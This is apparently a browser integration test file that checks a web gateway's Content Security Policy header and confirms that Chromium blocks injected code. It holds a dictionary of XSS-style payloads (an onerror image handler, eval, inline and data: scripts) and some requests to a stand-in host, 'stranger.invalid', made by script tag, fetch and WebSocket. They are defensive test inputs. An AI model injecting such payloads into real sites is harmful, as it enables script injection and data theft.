"""The content security policy: it is sent with every page, and Chromium holds the page to it."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Visits
from tests.browser.console import Console
from tests.browser.gateway_process import GatewayProcess

pytestmark = [pytest.mark.integration, pytest.mark.browser]

VIOLATION = re.compile("Content Security Policy|Trusted|EvalError|stranger.invalid|csp", re.IGNORECASE)

EVASIONS = {
    "an inline script": "add('script', {textContent: 'window.attacked = 1'})",
    "a handler in HTML": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=attacked=1>')",
    "HTML by innerHTML": "document.body.innerHTML = '<b>gone</b>'; window.attacked = 1",
    "eval": "window.eval('window.attacked = 1')",
    "a new function": "new Function('window.attacked = 1')()",
    "a timer with text": "setTimeout('window.attacked = 1')",
    "a script of a stranger": "add('script', {src: 'http://stranger.invalid/a.js'})",
    "a script in data": "add('script', {src: 'data:text/javascript,window.attacked=1'})",
    "a frame": "add('iframe', {src: 'http://stranger.invalid/'})",
    "another base": "add('base', {href: 'http://stranger.invalid/'}); window.attacked = document.baseURI"
    ".includes('stranger') || undefined",
    "a request": "await fetch('http://stranger.invalid/').then(() => { window.attacked = 1 })",
    "a socket": "await new Promise((done, refused) => { const socket = new WebSocket('ws://stranger.invalid/');"
    " socket.onerror = refused; socket.onopen = () => { window.attacked = 1; done() } })",
}


@pytest.fixture
def page(gateway: GatewayProcess, visit: Visits) -> Page:
    """A page in which somebody has got a foot, and breaks the policy as each test does."""
    coming = visit(gateway.page)
    coming.allow(VIOLATION)
    page = coming.open()
    expect(Console(page).heading("Sessions")).to_be_visible()
    return page


def test_the_policy_is_sent(gateway: GatewayProcess, visit: Visits) -> None:
    """Nothing is allowed but what comes from the gateway itself, and no inline script, style or eval."""
    context = visit(gateway.page).context
    answer = context.request.get(gateway.page)
    policy = dict(
        each.strip().partition(" ")[::2] for each in answer.headers["content-security-policy"].split(";")
    )
    assert policy["default-src"] == "'none'"
    assert policy["script-src"] == policy["style-src"] == policy["connect-src"] == "'self'"
    assert policy["frame-ancestors"] == policy["base-uri"] == policy["form-action"] == "'none'"
    assert policy["require-trusted-types-for"] == "'script'"
    assert "unsafe" not in answer.headers["content-security-policy"]
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "no-referrer"


def test_it_holds(page: Page) -> None:
    """Whoever gets a foot into the page can run nothing that did not come with it, and call nobody."""
    outcomes = {way: page.evaluate(_TRY.replace("CODE", code)) for way, code in EVASIONS.items()}
    assert outcomes == dict.fromkeys(EVASIONS, "held")


# In a timer: what the debugger runs itself may use `eval`.
_TRY = """
() => new Promise((done) => {
    window.attacked = undefined;
    window.add = (name, fields) => document.head.append(Object.assign(document.createElement(name), fields));
    const tell = () => done(window.attacked === undefined ? "held" : "attacked");
    document.addEventListener("securitypolicyviolation", () => setTimeout(tell), {once: true});
    setTimeout(async () => { try { CODE } catch { } });
})
"""
